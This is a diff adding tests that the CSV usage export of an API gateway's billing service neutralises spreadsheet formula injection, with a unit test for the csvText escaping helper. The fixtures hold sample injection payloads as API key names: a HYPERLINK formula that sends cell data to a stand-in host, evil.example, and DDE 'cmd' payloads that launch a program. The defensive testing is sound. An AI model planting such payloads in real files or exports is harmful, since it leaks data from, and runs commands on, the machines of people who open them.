@@ -5,7 +5,7 @@ import { join } from 'node:path'
 import { eventually, startGateway } from '../test-support/gateway'
 import { moscowDay, moscowDayStart, daysBetween } from './days'
 import { splitPeriod } from './usage'
-import { csvField } from './usage-export'
+import { csvField, csvText } from './usage-export'
 
 let gw: Awaited<ReturnType<typeof startGateway>>
 beforeAll(async () => {
@@ -134,6 +134,44 @@ describe('GET /api/billing/usage', () => {
     expect(bad.status).toBe(400)
     expect((await bad.json()).error).toBe('Поддерживается только format=csv')
     expect((await fetch(`${gw.url}/api/billing/usage/export`)).status).toBe(401)
+  })
+})
+
+describe('CSV export against formula injection (OWASP)', () => {
+  test('key names starting with = + - @ are exported as inert text; our numbers stay numbers', async () => {
+    const c = await gw.customer()
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Нажми")', '+7 (495) 000-00-00', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0']
+    for (const name of names) {
+      const k = await c.api.post('/api/auth/api-keys', { name }, c.accessToken)
+      expect(k.status).toBe(201)
+      await chat(k.body.data.key, 'openai/gpt-3.5-turbo')
+    }
+    const res = await fetch(`${gw.url}/api/billing/usage/export?format=csv`, { headers: { authorization: `Bearer ${c.accessToken}` } })
+    const lines = new TextDecoder().decode(new Uint8Array(await res.arrayBuffer()).slice(3)).split('\r\n').slice(1, -1)
+    expect(lines).toHaveLength(names.length)
+    // Parse each line as RFC 4180 and look at the key column.
+    const cells = (line: string) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replaceAll('""', '"')).slice(0, 11)
+    const keyCells = lines.map((l) => cells(l)[2]!)
+    expect(keyCells.sort()).toEqual(names.map((n) => `'${n}`).sort())
+    for (const line of lines) {
+      const row = cells(line)
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+      // Token counts, cost and duration are still plain numbers a spreadsheet can sum.
+      for (const i of [3, 4, 5, 8]) expect(row[i]).toMatch(/^\d+$/)
+      expect(row[6]).toMatch(/^\d+\.\d+$/)
+    }
+  })
+
+  test('csvText', () => {
+    expect(csvText('=1+2')).toBe("'=1+2")
+    expect(csvText('+1')).toBe("'+1")
+    expect(csvText('-1')).toBe("'-1")
+    expect(csvText('@x')).toBe("'@x")
+    expect(csvText('\tx')).toBe("'\tx")
+    expect(csvText('\rx')).toBe("'\rx")
+    expect(csvText('openai/gpt-4o')).toBe('openai/gpt-4o')
+    expect(csvText('a=b')).toBe('a=b')
+    expect(csvText('')).toBe('')
   })
 })
 
